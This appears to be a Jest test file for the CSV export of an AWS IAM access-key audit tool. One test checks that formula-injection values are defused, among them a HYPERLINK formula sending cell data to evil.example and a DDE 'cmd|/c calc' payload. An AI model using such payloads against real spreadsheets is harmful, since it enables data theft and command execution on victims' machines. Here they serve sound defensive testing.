import { parse } from 'csv-parse/sync';
import { CSV_COLUMNS, renderCsv } from '../../../lambda/formats/csv';
import { renderFormat } from '../../../lambda/formats/index';
import {
  EXAMPLE,
  fixtureReports,
  fullFinding,
  hostileReport,
  RENDER,
  resultOf,
  scanCsv,
  scanFile,
} from './support';

const rowsOf = (csv: string): string[][] => parse(csv, { relax_column_count: false });

describe('CSV', () => {
  it('has the documented header and one row per finding of the example report, in order', async () => {
    const result = await scanFile(EXAMPLE);
    const csv = renderFormat('csv', result, RENDER);
    const [header, ...rows] = rowsOf(csv);
    expect(header).toEqual([
      'account',
      'user',
      'arn',
      'rule',
      'severity',
      'credential',
      'access key id',
      'days',
      'threshold',
      'last used',
      'service',
      'owner',
      'exempt until',
      'exemption reason',
      'CIS',
      'FSBP',
      'summary',
      'finding id',
    ]);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows.map((r) => r[17])).toEqual(result.findings.map((f) => f.id));
    expect(csv).toMatch(/\r\n$/);

    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const alice = rows.find((r) => r[col('user')] === 'alice')!;
    expect(alice[col('rule')]).toBe('access-key-age');
    expect(alice[col('severity')]).toBe('critical');
    expect(alice[col('days')]).toBe('125');
    expect(alice[col('threshold')]).toBe('90');
    expect(alice[col('last used')]).toBe('2026-11-22T16:40:00Z');
    expect(alice[col('service')]).toBe('s3');
    expect(alice[col('CIS')]).toBe('CIS v3.0.0 1.14');
    expect(alice[col('FSBP')]).toBe('IAM.3');

    // A key never used says so; a rule that does not measure use leaves the cell empty.
    const carol = rows.find((r) => r[col('user')] === 'carol')!;
    expect(carol[col('last used')]).toBe('never');
    expect(carol[col('FSBP')]).toBe('IAM.8; IAM.22');
    const erin = rows.find((r) => r[col('rule')] === 'multiple-active-keys')!;
    expect(erin[col('last used')]).toBe('');
    expect(erin[col('FSBP')]).toBe('');
  });

  it('writes owner, access key id and exemption when a finding has them', () => {
    const f = fullFinding({ exemption: { until: '2026-12-31', reason: 'vendor pipeline, SEC-142' } });
    const [, row] = rowsOf(renderCsv(resultOf([f])));
    expect(row).toEqual([
      '123456789012',
      'alice',
      'arn:aws:iam::123456789012:user/alice',
      'access-key-age',
      'critical',
      'key-2026-07-20T14:02:11Z',
      'AKIAIOSFODNN7EXAMPLE',
      '126',
      '90',
      '2026-11-22T16:40:00Z',
      's3',
      'U024BE7LH',
      '2026-12-31',
      'vendor pipeline, SEC-142',
      'CIS v3.0.0 1.14',
      'IAM.3',
      'Access key 1 of alice is 126 days old (critical at 90); rotate it.',
      '123456789012/alice/access-key-age/key-2026-07-20T14:02:11Z',
    ]);
  });

  it('writes only a header when there is no finding', () => {
    expect(rowsOf(renderCsv(resultOf([])))).toEqual([[...CSV_COLUMNS]]);
  });

  it('defuses spreadsheet formulas in attacker-controlled cells, and round-trips everything else', async () => {
    const names = [
      '=HYPERLINK("http://evil.example/?x="&A1)',
      '+1+2',
      '-3+4',
      '@SUM(A1)',
      'comma,name',
      '"quoted"',
    ];
    const result = await scanCsv(hostileReport(names));
    const [, ...rows] = rowsOf(renderCsv(result));
    const users = new Set(rows.map((r) => r[1]));
    expect(users).toEqual(
      new Set([
        '\'=HYPERLINK("http://evil.example/?x="&A1)',
        "'+1+2",
        "'-3+4",
        "'@SUM(A1)",
        'comma,name',
        '"quoted"',
      ]),
    );
    // Every cell of every row: none starts with a formula character.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);

    const tab = fullFinding({
      user: '\tcmd',
      owner: '\r=1',
      summary: '＝1+1',
      exemption: { until: '2026-12-31', reason: '=cmd|"/c calc"!A1' },
    });
    const [, row] = rowsOf(renderCsv(resultOf([tab])));
    expect(row![1]).toBe("'\tcmd");
    expect(row![11]).toBe("'\r=1");
    expect(row![13]).toBe('\'=cmd|"/c calc"!A1');
    expect(row![16]).toBe("'＝1+1");
  });

  it.each(fixtureReports().map((p) => [p.split('/').pop()!, p]))(
    'renders the real report %s',
    async (_name, path) => {
      const result = await scanFile(path);
      const [header, ...rows] = rowsOf(renderCsv(result));
      expect(header).toEqual([...CSV_COLUMNS]);
      expect(rows).toHaveLength(result.findings.length);
      expect(rows.map((r) => [r[3], r[4], r[17]])).toEqual(
        result.findings.map((f) => [f.rule, f.severity, f.id]),
      );
    },
  );
});
